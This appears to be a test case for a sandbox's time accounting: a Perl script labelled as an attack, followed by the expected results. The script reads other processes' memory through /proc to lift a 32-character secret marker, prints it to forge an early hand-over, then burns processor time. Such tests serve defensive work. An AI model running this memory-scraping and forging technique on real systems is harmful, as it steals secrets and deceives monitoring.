# Attack: print a hand-over at once, compute behind it, and hand over slowly, so that only the time before it is charged.
# Verdict: the time until the hand-over was complete is charged, and all of the processor's time until then.
perl -e '
use strict; my $mark;
for my $pid (getppid(), 2, 3) {
    open(my $maps, "<", "/proc/$pid/maps") or next; open(my $mem, "<", "/proc/$pid/mem") or next; binmode $mem;
    while (<$maps>) {
        next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my ($from, $to) = (hex $1, hex $2);
        sysseek($mem, $from, 0); my $data = ""; sysread($mem, $data, $to - $from) or next;
        if ($data =~ /(?<![0-9a-f])([0-9a-f]{32})(?![0-9a-f])/) { $mark = $1; last; }
    }
    last if $mark;
}
exit 7 unless $mark;
$| = 1; binmode STDOUT;
print "$mark 0 -1 files\n";
print STDERR "\n$mark \n";
while ((times)[0] < 0.5) { for (1..10000) {} }
print "\0" x 1024;
sleep 60;
'
/* ---
limits: {"timeoutMs":30000}
status: completed
result: null
exitCode: 0
usage.wallMs: 480..30000
usage.cpuMs: 480..10000
maxWallMs: 60000
*/
